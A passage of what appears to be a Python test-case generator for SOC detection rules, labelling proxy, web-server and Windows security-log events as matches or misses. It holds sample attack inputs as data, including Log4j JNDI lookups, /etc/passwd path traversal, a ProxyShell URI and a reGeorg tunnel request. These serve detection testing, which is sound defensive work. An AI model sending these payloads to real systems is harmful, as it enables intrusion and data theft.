          proxy_hktl_cobalt_strike_malleable_c2_requests=False)
    c.add(px("www.amazon.com", "/s/ref=nb_sb_noss_1/167-3294888-0262949/field-keywords=books", "GET", cs_ua,
             **{"cs-cookie": "session-id=1; =csm-hit=s-24KU11BB82RZSYGJ3BDK|1419899012996"}),
          "match: amazon_1, '_' in c-uri is literal", proxy_hktl_cobalt_strike_malleable_c2_requests=True)
    c.add(px("www.amazon.com", "/s/ref=nbXsbXnossX1/167-3294888-0262949/field-keywords=books", "GET", cs_ua,
             **{"cs-cookie": "=csm-hit=s-24KU11BB82RZSYGJ3BDK|1419899012996"}),
          "miss: '_' is not a wildcard", proxy_hktl_cobalt_strike_malleable_c2_requests=False)
    c.add(px("192.0.2.44", "/load", ua="Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; MANM; MANM)"),
          "match: endswith '; MANM; MANM)'", proxy_hktl_cobalt_strike_malleable_c2_requests=True)
    c.add(px("onedrive.live.com", "/preload?manifest=wac"), "match: '\\?' is a literal ?",
          proxy_hktl_cobalt_strike_malleable_c2_requests=True)
    c.add(px("onedrive.live.com", "/preloadXmanifest=wac"), "miss: X is not ?",
          proxy_hktl_cobalt_strike_malleable_c2_requests=False)
    c.add(px("onedrive.live.com", "https://onedrive.live.com/preload?manifest=wac"), "miss: the onedrive filter",
          proxy_hktl_cobalt_strike_malleable_c2_requests=False)
    c.add(px("ocsp.verisign.com", "/oscp/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ"), "match: oscp",
          proxy_hktl_cobalt_strike_malleable_c2_requests=True)
    c.add(px("ipfs.io", "/ipfs/QmX/index.html", **{"cs-uri": "https://ipfs.io/ipfs/QmXa1/index.html#can.bo@hue.gov.vn"}),
          "match", proxy_susp_ipfs_cred_harvest=True)
    c.add(px("ipfs.io", "/ipfs/QM/LOGIN.HTML", **{"cs-uri": "HTTPS://IPFS.IO/IPFS/QM/LOGIN.HTML?E=USER@EXAMPLE.COM"}),
          "match: (?i) in the pattern", proxy_susp_ipfs_cred_harvest=True)
    c.add(px("ipfs.io", "/ipfs/QmX/index.html", **{"cs-uri": "https://ipfs.io/ipfs/QmXa1/index.html"}), "miss: no @",
          proxy_susp_ipfs_cred_harvest=False)
    c.add(px("ipfs.io", "/ipfs/Q/x", **{"cs-uri": "https://ipfs.io/ipfs/Q/x.html#a@b.\u212a"}),
          "quirk: (?i)[a-z] matches KELVIN SIGN in Python re (Unicode case folding), unlike LIKE",
          proxy_susp_ipfs_cred_harvest=True)
    c.add(px("scan.example.net", "/", ua="sqlmap/1.8.11#stable (https://sqlmap.org)"), "match", proxy_ua_hacktool=True)
    c.add(px("scan.example.net", "/", ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)"), "match",
          proxy_ua_hacktool=True)
    c.add(px("scan.example.net", "/", ua="Mozilla/5.0 zmeu"), "miss: ' zmeu ' needs the trailing space", proxy_ua_hacktool=False)
    c.add(px("c2.example.net", "/", ua="HttpBrowser/1.0"), "match", proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua="HttpBrowser/1.1"), "miss", proxy_ua_malware=False)
    c.add(px("c2.example.net", "/", ua="23591"), "match: numeric-looking rule text", proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua=23591), "match: rule text '23591', event number", proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua="023591"), "quirk: '023591' equals the rule's '23591' (both read as numbers)",
          proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua="23591.0"), "quirk: '23591.0' equals '23591'", proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua="23591a"), "miss", proxy_ua_malware=False)
    c.add(px("c2.example.net", "/", ua="msie"), "match: equality ignores case", proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua="Mozilla/5.0 (Windows NT 5.1 ; v.14)"), "match: trailing wildcard",
          proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua="Ares_ldr_v_4"), "match: Ares_ldr_v_*", proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua="AresXldrXvX4"), "miss: '_' is literal", proxy_ua_malware=False)
    c.add(px("c2.example.net", "/", ua="foo <|> bar"), "match: *<|>*", proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua="Downloader tiny"), "match: '* tiny'", proxy_ua_malware=True)
    c.add(px("c2.example.net", "/", ua="tiny"), "miss: '* tiny' needs the space", proxy_ua_malware=False)
    c.add(px("c2.example.net", "/", ua="Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.18"), "miss: Opera is exact",
          proxy_ua_malware=False)
    c.add(px("legacy.example.net", "/", ua="Mozilla/3.0 (compatible; Indy Library)"), "match: startswith 'Mozilla/3.0 '",
          proxy_ua_susp=True)
    c.add(px("legacy.example.net", "/", ua="Mozilla/3.0 (compatible; Acrobat 5.0; Windows)"), "miss: the Acrobat false positive",
          proxy_ua_susp=False)
    c.add(px("update.adobe.com", "/", ua="acro-loader/2"), "miss: host filter", proxy_ua_susp=False)
    c.add(px("update.example.com", "/", ua="acro-loader/2"), "match: loader", proxy_ua_susp=True)
    c.add(px("x.example.com", "/", ua="_"), "match: '_' exactly", proxy_ua_susp=True)
    c.add(px("x.example.com", "/", ua="a"), "miss: '_' is not a wildcard", proxy_ua_susp=False)
    c.add(px("x.example.com", "/", ua="X"), "match: 'x' ignores case", proxy_ua_susp=True)
    c.add(px("x.example.com", "/", ua=" x"), "miss: equality keeps spaces", proxy_ua_susp=False)
    dav = "Microsoft-WebDAV-MiniRedir/10.0.19045"
    c.add(px("192.0.2.90", "/share/run.exe", ua=dav, dst_ip="192.0.2.90"), "match", proxy_webdav_external_execution=True)
    event = px("dav.example.net", "/share/run.bat", ua=dav)
    del event["dst_ip"]
    c.add(event, "match: no dst_ip", proxy_webdav_external_execution=True)
    c.add(px("10.20.1.1", "/share/run.exe", ua=dav, dst_ip="10.20.1.1"), "miss: internal", proxy_webdav_external_execution=False)
    c.add(px("fs", "/share/run.exe", ua=dav, dst_ip="fe80::1c2d:3e4f"), "miss: link-local v6", proxy_webdav_external_execution=False)
    c.add(px("fs", "/share/run.exe", ua=dav, dst_ip="FD12:3456::1"), "miss: fc00::/7, upper case", proxy_webdav_external_execution=False)
    c.add(px("fs", "/share/run.exe", ua=dav, dst_ip="2001:db8::90"), "match: global v6", proxy_webdav_external_execution=True)
    c.add(px("fs", "/share/run.exe", ua=dav, dst_ip="febf:ffff::1"), "miss: last block of fe80::/10",
          proxy_webdav_external_execution=False)
    c.add(px("fs", "/share/run.exe", ua=dav, dst_ip="fec0::1"), "match: just past fe80::/10", proxy_webdav_external_execution=True)
    c.add(px("fs", "/share/run.exe", ua=dav, dst_ip="169.254.10.1"), "miss: link-local v4", proxy_webdav_external_execution=False)
    c.add(px("fs", "/share/run.exe", ua=dav, dst_ip="0:0:0:0:0:0:0:1"),
          "quirk: ::1 written in full is not in ::1/128 (cidr compares text)", proxy_webdav_external_execution=True)
    c.add(px("fs", "/share/run.exe", ua=dav, dst_ip="fe80:0:0:0:0:0:0:1"), "miss: fe80 written in full still starts 'fe80:'",
          proxy_webdav_external_execution=False)
    c.add(px("fs", "/share/run.pdf", ua=dav, dst_ip="192.0.2.90"), "miss: pdf", proxy_webdav_external_execution=False)
    c.add(px("fs", "/share/run.exe", "PROPFIND", ua=dav, dst_ip="192.0.2.90"), "miss: PROPFIND",
          proxy_webdav_external_execution=False)

    # ---------------------------------------------------------------- web server
    w = c.web
    c.add(w("/public/plugins/alertlist/../../../../../../../../etc/passwd"), "match", web_cve_2021_43798_grafana=True)
    c.add(w("/public/plugins/alertlist/../../../../../../../../etc/passwd", status="200"), "match: status as text",
          web_cve_2021_43798_grafana=True)
    c.add(w("/public/plugins/alertlist/../../../../../../../../etc/passwd", status=404), "miss: 404",
          web_cve_2021_43798_grafana=False)
    c.add(w("/public/plugins/welcome/../../../etc/passwd"), "miss: too few ../", web_cve_2021_43798_grafana=False)
    c.add(w("/search?q=x", ua="${jndi:ldap://192.0.2.9:1389/a}"), "match: user agent", web_cve_2021_44228_log4j_fields=True)
    c.add(w("/search?q=x", **{"cs-referer": "${${lower:j}ndi:ldap://192.0.2.9/a}"}), "match: referer",
          web_cve_2021_44228_log4j_fields=True)
    c.add(w("/search?q=%24%7Bjndi:ldap://192.0.2.9/a%7D"), "match: encoded query", web_cve_2021_44228_log4j_fields=True)
    c.add(w("/search?q=${JNDI:LDAP://192.0.2.9/a}"), "match: ignores case", web_cve_2021_44228_log4j_fields=True)
    c.add(w("/search?q=${jndi:http://192.0.2.9/a}"), "miss: jndi:http", web_cve_2021_44228_log4j_fields=False)
    c.add(w("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
            status=401), "match", web_exchange_proxyshell=True)
    c.add(w("/autodiscover/autodiscover.json?@evil.example/mapi/nspi", status=200), "miss: 200",
          web_exchange_proxyshell=False)
    c.add(w("/owa/autodiscover.jsonX@x", status=401), "match: '?' in 'autodiscover.json?@' is a one-character wildcard, also in contains",
          web_exchange_proxyshell=True)
    c.add(w("/owa/auth/logon.aspx", status=401), "miss", web_exchange_proxyshell=False)
    c.add(w("/ADMIN~1/a.aspx"), "match", web_iis_tilt_shortname_scan=True)
    c.add(w("/web~1*/a.aspx", method="options", status=301), "match: method ignores case", web_iis_tilt_shortname_scan=True)
    c.add(w("/ADMIN~1/a.aspx", status=404), "miss: 404", web_iis_tilt_shortname_scan=False)
    c.add(w("/ADMIN~1/b.aspx"), "miss: b.aspx", web_iis_tilt_shortname_scan=False)
    c.add(w("/index.php?file=../../../etc/passwd"), "match", web_path_traversal_exploitation_attempt=True)
    c.add(w("/index.php?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"), "match: overlong utf-8",
          web_path_traversal_exploitation_attempt=True)
    c.add(w("/index.php?file=../etc/passwd"), "miss: one level", web_path_traversal_exploitation_attempt=False)
    regeorg = c.web("/tunnel.jsp?cmd=connect&target=10.20.0.5&port=3389", method="POST")
    for name in ("cs-user-agent", "cs-referer"):
        del regeorg[name]
    c.add(regeorg, "match: no referer and no user agent", web_webshell_regeorg=True)
    c.add(dict(regeorg, **{"cs-referer": None, "cs-user-agent": None}), "match: null is missing",
          web_webshell_regeorg=True)
    c.add(dict(regeorg, **{"cs-referer": ""}), "miss: an empty referer is not null", web_webshell_regeorg=False)
    c.add(dict(regeorg, **{"cs-user-agent": "-"}), "miss: user agent '-'", web_webshell_regeorg=False)
    c.add(dict(regeorg, **{"cs-method": "GET"}), "miss: GET", web_webshell_regeorg=False)
    c.add(dict(regeorg, **{"cs-method": "post", "cs-uri-query": "/t.aspx?CMD=READ"}), "match: case",
          web_webshell_regeorg=True)
    # soc_web_server_error_or_large_upload: POST/PUT and (500 <= status <= 599 or bytes > 10 MiB)
    c.add(w("/api/ho-so", method="POST", status=500), "match: 500", soc_web_server_error_or_large_upload=True)
    c.add(w("/api/ho-so", method="PUT", status=599), "match: 599", soc_web_server_error_or_large_upload=True)
    c.add(w("/api/ho-so", method="POST", status=600), "miss: 600", soc_web_server_error_or_large_upload=False)
    c.add(w("/api/ho-so", method="POST", status=499), "miss: 499", soc_web_server_error_or_large_upload=False)
    c.add(w("/api/ho-so", method="GET", status=500), "miss: GET", soc_web_server_error_or_large_upload=False)
    c.add(w("/api/ho-so", method="post", status="503"), "match: text status, method case", soc_web_server_error_or_large_upload=True)
    c.add(w("/api/ho-so", method="POST", status="5xx"), "miss: '5xx' is >= 500 (text) but not <= 599",
          soc_web_server_error_or_large_upload=False)
    c.add(w("/api/tep", method="PUT", status=201, **{"cs-bytes": 10485761}), "match: one byte over 10 MiB",
          soc_web_server_error_or_large_upload=True)
    c.add(w("/api/tep", method="PUT", status=201, **{"cs-bytes": 10485760}), "miss: exactly 10 MiB",
          soc_web_server_error_or_large_upload=False)
    c.add(w("/api/tep", method="PUT", status=201, **{"cs-bytes": "unknown"}), "quirk: text bytes are greater than any number",
          soc_web_server_error_or_large_upload=True)
    c.add(w("/api/tep", method="PUT", status=201, **{"cs-bytes": 10485760.5}), "match: a fraction over",
          soc_web_server_error_or_large_upload=True)

    # ---------------------------------------------------------------- Windows firewall, security log
    fwas = {"Channel": "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Computer": c.host() + ".hue.local"}
    c.add(dict(fwas, EventID=2033, ModifyingApplication=r"C:\Users\Public\fw.exe"), "match",
          win_firewall_as_delete_all_rules=True)
    c.add(dict(fwas, EventID=2059), "match: no ModifyingApplication", win_firewall_as_delete_all_rules=True)
    c.add(dict(fwas, EventID=2033, ModifyingApplication=r"C:\Windows\System32\svchost.exe"), "miss: svchost",
          win_firewall_as_delete_all_rules=False)
    c.add(dict(fwas, EventID="2059", ModifyingApplication=r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe"),
          "miss: Defender", win_firewall_as_delete_all_rules=False)
    c.add(dict(fwas, EventID=2004, ModifyingApplication=r"C:\Users\Public\fw.exe"), "miss: 2004",
          win_firewall_as_delete_all_rules=False)
    s = c.security
    logon = dict(AuthenticationPackageName="Negotiate", LogonProcessName="User32 ", WorkstationName="HUE-WS-0042",
                 SubjectUserSid="S-1-5-18", TargetDomainName="HUE")
    c.add(s(4624, LogonType=10, TargetUserName="Admin-hue01", IpAddress="10.20.4.4", **logon), "match",
          win_security_admin_rdp_login=True, win_security_successful_external_remote_rdp_login=False)
    c.add(s(4624, LogonType="10", TargetUserName="admin_pham", IpAddress="10.20.4.4", **logon), "match: case, text type",
          win_security_admin_rdp_login=True)
    c.add(s(4624, LogonType=10, TargetUserName="SysAdmin", IpAddress="10.20.4.4", **logon), "miss: not at the start",
          win_security_admin_rdp_login=False)
    c.add(s(4624, LogonType=3, TargetUserName="Admin-hue01", IpAddress="10.20.4.4", **logon), "miss: network logon",
          win_security_admin_rdp_login=False)
    pth = dict(SubjectUserSid="S-1-0-0", LogonType=3, LogonProcessName="NtLmSsp", KeyLength=0, TargetUserName="le.hoang.cuong",
               AuthenticationPackageName="NTLM", IpAddress="10.20.7.7", WorkstationName="HUE-WS-0077")
    c.add(s(4624, **pth), "match: logon3", win_security_pass_the_hash_2=True)
    c.add(s(4624, **dict(pth, KeyLength="0")), "match: KeyLength as text", win_security_pass_the_hash_2=True)
    c.add(s(4624, **dict(pth, TargetUserName="ANONYMOUS LOGON")), "miss: anonymous", win_security_pass_the_hash_2=False)
    c.add(s(4624, **dict(pth, KeyLength=128)), "miss: KeyLength 128", win_security_pass_the_hash_2=False)
    c.add(s(4624, **dict(pth, LogonProcessName="NtLmSsp ")), "miss: Windows writes 'NtLmSsp ' with a space; = keeps it",
          win_security_pass_the_hash_2=False)
    c.add(s(4624, LogonType=9, LogonProcessName="seclogo", TargetUserName="bui.thanh.lan", IpAddress="::1"),
          "match: logon9", win_security_pass_the_hash_2=True)
    tunnel = dict(Application=r"\device\harddiskvolume2\windows\system32\svchost.exe", Direction="%%14592", Protocol=6)
    c.add(s(5156, SourcePort=3389, DestAddress="127.0.0.1", DestPort=50123, SourceAddress="127.0.0.1", **tunnel), "match",
          win_security_rdp_reverse_tunnel=True)
    c.add(s(5156, DestPort="3389", SourceAddress="::1", SourcePort=50123, DestAddress="::1", **tunnel), "match: v6 loopback",
          win_security_rdp_reverse_tunnel=True)
    c.add(s(5156, SourcePort=3389, DestAddress="127.0.0.1", FilterOrigin="AppContainer Loopback", **tunnel),
          "miss: AppContainer Loopback", win_security_rdp_reverse_tunnel=False)
    c.add(s(5156, SourcePort=3389, DestAddress="10.20.0.1", **tunnel), "miss: not loopback",
          win_security_rdp_reverse_tunnel=False)
    c.add(s(5156, SourcePort=3389, DestAddress="127.0.0.1", Application=r"C:\thor\thor64.exe"), "miss: thor",
          win_security_rdp_reverse_tunnel=False)
    rdp = dict(AuthenticationPackageName="Negotiate", TargetUserName="vo.thi.hoa", WorkstationName="HOME-PC")
    for ip, match, note in [
            ("192.0.2.31", True, "public"), ("192.168.1.10", False, "private"), ("-", False, "'-'"),
            ("172.32.0.1", True, "just past 172.16/12"), ("172.31.255.255", False, "end of 172.16/12"),
            ("2001:db8::1", True, "global v6"), ("fe80::1", False, "link-local"), ("::1", False, "loopback"),
            ("fd00::5", False, "unique local"), ("0:0:0:0:0:0:0:1", True, "quirk: loopback written in full"),
            ("127.0.0.1", False, "loopback")]:
        c.add(s(4624, LogonType=10, IpAddress=ip, **rdp), ("" if note.startswith("quirk") else "match: " if match else "miss: ") + note,
              win_security_successful_external_remote_rdp_login=match)
    event = s(4624, LogonType=10, **rdp)
    c.add(event, "match: no IpAddress", win_security_successful_external_remote_rdp_login=True)
    smb = dict(AuthenticationPackageName="NTLM", TargetUserName="dang.quoc.huy", WorkstationName="KALI", LogonProcessName="NtLmSsp ")
    for ip, match, note in [
            ("198.51.100.20", True, "public"), ("10.10.10.10", False, "10/8"), ("127.0.0.1", False, "loopback"),
            ("10.1.2.3:445", False, "quirk: '10.1.2.3:445' starts '10.'"), ("100.64.0.1", True, "CGNAT is not filtered"),
            ("169.254.0.1", False, "link-local"), ("169.255.0.1", True, "past 169.254/16")]:
        c.add(s(4624, LogonType=3, IpAddress=ip, **smb), ("" if note.startswith("quirk") else "match: " if match else "miss: ") + note,
              win_security_successful_external_remote_smb_login=match)
    failed = dict(TargetUserName="administrator", LogonType=3, IpAddress="10.20.9.9", WorkstationName="HUE-WS-0909",
                  SubjectUserSid="S-1-5-18")
    c.add(s(4625, Status="0xC0000072", **failed), "match: disabled account", win_security_susp_failed_logon_reasons=True)
    c.add(s(4776, SubStatus="0xc000006f", **failed), "match: lower-case hex", win_security_susp_failed_logon_reasons=True)
    c.add(s(4625, Status="0xC0000072", **dict(failed, SubjectUserSid="S-1-0-0")), "miss: the filter",
          win_security_susp_failed_logon_reasons=False)
    c.add(s(4625, Status="0xC000006A", **failed), "miss: wrong password", win_security_susp_failed_logon_reasons=False)
    c.add(s(4624, Status="0xC0000072", **failed), "miss: 4624", win_security_susp_failed_logon_reasons=False)
    src = dict(TargetUserName="administrator", LogonType=3, Status="0xC000006D", SubStatus="0xC000006A", SubjectUserSid="S-1-0-0")
    for ip, match, note in [
            ("192.0.2.40", True, "public"), ("-", False, "'-'"), ("10.0.0.8", False, "private"),
            ("2001:db8::40", True, "global v6"), ("fe80::40", False, "link-local"),
            ("192.0.2.41 - proxy", False, "contains '-'"), ("::ffff:192.0.2.42", True, "v4-mapped public")]:
        c.add(s(4625, IpAddress=ip, WorkstationName="-", **src), ("match: " if match else "miss: ") + note,
              win_security_susp_failed_logon_source=match)
    c.add(s(4625, **src), "match: no IpAddress", win_security_susp_failed_logon_source=True)
    krb = dict(TargetUserName="krbtgt", ServiceName="krbtgt", IpAddress="::ffff:10.20.5.5", TicketEncryptionType="0x12")
    c.add(s(4769, Status="0x1F", **krb), "match", win_security_susp_kerberos_manipulation=True)
    c.add(s(4771, Status="0x1f", **krb), "match: lower-case hex", win_security_susp_kerberos_manipulation=True)
    c.add(s("4768", Status="0x9", **krb), "match: EventID as text", win_security_susp_kerberos_manipulation=True)
    c.add(s(4771, Status="0x18", **krb), "miss: 0x18 (bad password) is not on the list",
          win_security_susp_kerberos_manipulation=False)
    c.add(s(4769, Status="0x0", **krb), "miss: success", win_security_susp_kerberos_manipulation=False)
    c.add(s(4769, Status="0x09", **krb), "miss: 0x09 is not 0x9 (hex is text)", win_security_susp_kerberos_manipulation=False)
    c.add(s(4624, Status="0x1F", **krb), "miss: 4624", win_security_susp_kerberos_manipulation=False)
    explicit = dict(SubjectUserName="nguyen.van.an", TargetUserName="administrator", TargetServerName="srv-db01.hue.local",
                    ProcessName=r"C:\Windows\System32\cmd.exe")
    c.add(s(4648, **explicit), "match", win_security_susp_logon_explicit_credentials=True)
    c.add(s(4648, **dict(explicit, TargetServerName="LOCALHOST")), "miss: localhost ignores case",
          win_security_susp_logon_explicit_credentials=False)
    c.add(s(4648, **dict(explicit, SubjectUserName="HUE-WS-0001$", TargetUserName="HUE-SRV-01$")), "miss: both machine accounts",
          win_security_susp_logon_explicit_credentials=False)
    c.add(s(4648, **dict(explicit, SubjectUserName="HUE-WS-0001$")), "match: only one machine account",
          win_security_susp_logon_explicit_credentials=True)
    c.add(s(4648, **dict(explicit, ProcessName=r"C:\Windows\explorer.exe")), "miss: explorer",
          win_security_susp_logon_explicit_credentials=False)
    wfp = dict(Direction="%%14593", SourceAddress="10.20.1.9", DestAddress="192.0.2.99", DestPort=443)
    c.add(s(5157, Application=r"\device\harddiskvolume3\program files\crowdstrike\csfalconservice.exe", **wfp),
          "match: lower case", win_security_wfp_endpoint_agent_blocked=True)
    c.add(s(5157, Application=r"\device\harddiskvolume3\program files\sophos\sophos ui.exe", **wfp),
          "match: a space in the name", win_security_wfp_endpoint_agent_blocked=True)
    c.add(s(5156, Application=r"\device\harddiskvolume3\program files\crowdstrike\csfalconservice.exe", **wfp),
          "miss: 5156 allowed", win_security_wfp_endpoint_agent_blocked=False)
    c.add(s(5157, Application=r"\device\harddiskvolume3\tools\notcb.exe", **wfp), "miss: notcb.exe is not \\cb.exe",
          win_security_wfp_endpoint_agent_blocked=False)

    # ---------------------------------------------------------------- local: failed network logon without workstation
    nows = dict(TargetUserName="administrator", Status="0xC000006D", SubStatus="0xC000006A", SubjectUserSid="S-1-0-0")
    rule = "soc_auth_failed_network_logon_without_workstation"
    c.add(s(4625, LogonType=3, IpAddress="192.0.2.80", **nows), "match", **{rule: True})
    c.add(s(4625, LogonType="10", IpAddress="192.0.2.81", WorkstationName=None, **nows), "match: null workstation, text type",
          **{rule: True})
    c.add(s(4625, LogonType=3, IpAddress="192.0.2.82", WorkstationName="", **nows), "miss: an empty workstation exists",
          **{rule: False})
    c.add(s(4625, LogonType=3, IpAddress="192.0.2.83", WorkstationName="KALI", **nows), "miss: workstation named",
          **{rule: False})
    c.add(s(4625, LogonType=3, **nows), "miss: no IpAddress", **{rule: False})
    c.add(s(4625, LogonType=3, IpAddress="", **nows), "match: an empty IpAddress exists", **{rule: True})
    c.add(s(4625, LogonType=3, IpAddress="192.0.2.84", **dict(nows, TargetUserName="anonymous logon")),
          "miss: the filter ignores case", **{rule: False})
    c.add(s(4625, LogonType=2, IpAddress="192.0.2.85", **nows), "miss: interactive", **{rule: False})
    c.add(s(4625, LogonType=3.0, IpAddress="192.0.2.86", **nows), "match: LogonType 3.0", **{rule: True})
    c.add(s(4625, LogonType=3, IpAddress="192.0.2.87", workstationname="X", **nows), "miss: workstationname in lower case exists",
          **{rule: False})

    # ---------------------------------------------------------------- local: antivirus in a critical unit
    rule = "soc_av_detection_critical_ou"
    c.add(c.antivirus("Trojan:Win32/Emotet.RPX!MTB", ou="ou-042"), "match", **{rule: True})
    c.add(c.antivirus("EICAR-Test-File (not a virus)", ou="ou-042"), "miss: EICAR", **{rule: False})
    c.add(c.antivirus("Virus:DOS/eicar_test_file", ou="ou-108"), "miss: EICAR ignores case", **{rule: False})
    c.add(c.antivirus("Trojan:Win32/Emotet.RPX!MTB", ou="ou-043"), "miss: another unit", **{rule: False})
    c.add(c.antivirus("Trojan:Win32/Emotet.RPX!MTB", ou="OU-017"), "match: unit id ignores case", **{rule: True})
    c.add(c.antivirus("", ou="ou-199"), "match: an empty signature exists", **{rule: True})
    c.add(c.antivirus(None, ou="ou-001"), "miss: null signature", **{rule: False})
    event = c.antivirus("Trojan:Win32/Emotet", ou="ou-001")
    event["Organization.Id"] = event.pop("organization.id")
    c.add(event, "match: dotted name in another case", **{rule: True})
    event = c.antivirus("Trojan:Win32/Emotet", ou="ou-001")
    event["organization"] = event.pop("organization.id")
    c.add(event, "miss: 'organization' is not 'organization.id'", **{rule: False})

    # ---------------------------------------------------------------- local: IOC watch list (1 of them)
    rule = "soc_ioc_watchlist"
    c.add(px("cdn.stadtportal-update.example", "/"), "match: host suffix", **{rule: True})
    c.add(px("stadtportal-update.example", "/"), "miss: no dot before the suffix", **{rule: False})
    c.add(px("evil-buergerservice-login.example", "/"), "match: suffix without a dot", **{rule: True})
    for ip, match, note in [("198.51.100.63", False, "below the /26"), ("198.51.100.64", True, "first of the /26"),
                            ("198.51.100.127", True, "last of the /26"), ("198.51.100.128", False, "above the /26"),
                            ("203.0.113.0", True, "first of the /24"), ("203.0.113.255", True, "last of the /24"),
                            ("203.0.112.255", False, "below the /24"), ("198.51.100.064", False, "leading zero"),
                            ("203.0.113.7:443", True, "quirk: text after the address"),
                            ("198.51.100.100:443", False, "quirk: the /26 is 64 equalities, no prefix")]:
        c.add(fw("allow", c.internal_ip(), ip, 443), ("" if note.startswith("quirk") else "match: " if match else "miss: ") + note,
              **{rule: match})
    hexname = "0123456789abcdef0123456789abcdef"
    c.add(px("cdn.example.net", "/" + hexname + ".php"), "match: c-uri re", **{rule: True})
    c.add(px("cdn.example.net", "/x/" + hexname + ".jsp"), "match: jsp", **{rule: True})
    c.add(px("cdn.example.net", "/" + hexname.upper() + ".php"), "miss: re is case-sensitive", **{rule: False})
    c.add(px("cdn.example.net", "/" + hexname + ".PHP"), "miss: .PHP", **{rule: False})
    c.add(px("cdn.example.net", "/" + hexname + ".php?x=1"), "miss: $ anchors", **{rule: False})
    c.add(px("cdn.example.net", "/" + hexname + ".php\n"), "quirk: Python's $ also matches before a final newline",
          **{rule: True})
    c.add(px("cdn.example.net", "/" + hexname[:-1] + ".php"), "miss: 31 digits", **{rule: False})


def noise(c, count):
    """Ordinary traffic: mostly matching nothing, sometimes a rule, as real logs do."""
    makers = []

    def windows():
        kind = c.rng.random()
        user = c.user()
        if kind < 0.35:
            return c.security(4624, LogonType=c.pick([2, 3, 3, 5, 7, 11]), TargetUserName=user, TargetDomainName="HUE",
                              IpAddress=c.internal_ip(), WorkstationName=c.host(), LogonProcessName=c.pick(["User32 ", "Advapi  ", "Kerberos"]),
                              AuthenticationPackageName=c.pick(["Negotiate", "Kerberos", "NTLM"]),
                              SubjectUserSid="S-1-5-18", KeyLength=0)
        if kind < 0.5:
            return c.security(4634, LogonType=3, TargetUserName=user, TargetDomainName="HUE")
        if kind < 0.6:
            return c.security(4672, SubjectUserName=user, PrivilegeList="SeSecurityPrivilege SeBackupPrivilege")
        if kind < 0.72:
            return c.security(4625, LogonType=c.pick([2, 3]), TargetUserName=user, Status="0xC000006D",
                              SubStatus="0xC000006A", IpAddress=c.internal_ip(), WorkstationName=c.host(),
                              SubjectUserSid="S-1-5-18")
        if kind < 0.82:
            return c.security(c.pick([4768, 4769]), TargetUserName=user, ServiceName=c.pick(["krbtgt", "HUE-SRV-01$", "cifs/fs01"]),
                              Status="0x0", IpAddress="::ffff:" + c.internal_ip(), TicketEncryptionType="0x12")
        if kind < 0.92:
            return c.security(c.pick([5156, 5158]), Application=r"\device\harddiskvolume3\program files\google\chrome\application\chrome.exe",
                              SourceAddress=c.internal_ip(), SourcePort=c.rng.randint(49152, 65535),
                              DestAddress=c.public_ip(), DestPort=443, Protocol=6)
        return c.security(4688, NewProcessName=r"C:\Windows\System32\svchost.exe", SubjectUserName=user,
                          CommandLine=r"C:\Windows\system32\svchost.exe -k netsvcs -p")

    def processes():
        user = "HUE\\" + c.user()
        image, cli = c.pick([
            (r"C:\Program Files\Google\Chrome\Application\chrome.exe", '"chrome.exe" --type=renderer --lang=vi'),
            (r"C:\Windows\System32\notepad.exe", r"notepad.exe C:\Users\Public\Documents\ghi-chu.txt"),
            (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r'"WINWORD.EXE" /n "C:\Users\an\Documents\To trinh.docx"'),
            (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k LocalService -p -s BthAvctpSvc"),
            (r"C:\Windows\System32\cmd.exe", r'cmd.exe /c "C:\Scripts\backup-ho-so.bat"'),
            (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1"),
            (r"C:\Windows\System32\ipconfig.exe", "ipconfig /all"),
            (r"C:\Program Files\Zalo\Zalo.exe", '"Zalo.exe" --autorun'),
            (r"C:\Windows\System32\net.exe", "net use Z: \\\\fs01\\chung"),
            (r"C:\Windows\System32\schtasks.exe", "schtasks.exe /query /fo LIST"),
        ])
        return c.process(image, cli, User=user, IntegrityLevel=c.pick(["Medium", "High"]),
                         Hashes="SHA256=%064X" % c.rng.getrandbits(256))

    def proxies():
        host, uri = c.pick([("dichvucong.hue.gov.vn", "/"), ("hue-s.vn", "/api/v1/news"), ("www.google.com", "/search?q=thoi+tiet+hue"),
                            ("login.microsoftonline.com", "/common/oauth2/v2.0/token"), ("zalo.me", "/"),
                            ("update.microsoft.com", "/v6/ClientWebService/client.asmx"), ("vnexpress.net", "/thoi-su"),
                            ("cdn.jsdelivr.net", "/npm/leaflet@1.9.4/dist/leaflet.js"), ("thuathienhue.gov.vn", "/van-ban/qd-766.pdf")])
        return c.proxy(host, uri, method=c.pick(["GET", "GET", "GET", "POST", "CONNECT"]),
                       **{"sc-status": c.pick([200, 200, 200, 204, 301, 304, 404])})

    def webs():
        query = c.pick(["/", "/dich-vu-cong/nop-ho-so", "/tra-cuu?ma=H56.%d" % c.rng.randint(1000, 9999), "/api/phan-anh",
                        "/static/app.css", "/favicon.ico", "/wp-login.php", "/.env"])
        return c.web(query, method=c.pick(["GET", "GET", "POST"]), status=c.pick([200, 200, 302, 304, 404, 401]))

    def firewalls():
        if c.rng.random() < 0.6:
            return c.firewall(c.pick(["accept", "allow", "close"]), c.internal_ip(), c.public_ip(), c.pick([443, 443, 53, 123, 993]))
        return c.firewall(c.pick(["deny", "drop"]), c.public_ip(), c.internal_ip(), c.pick([3389, 8443, 5060, 1900, 23, 445]))

    def av():
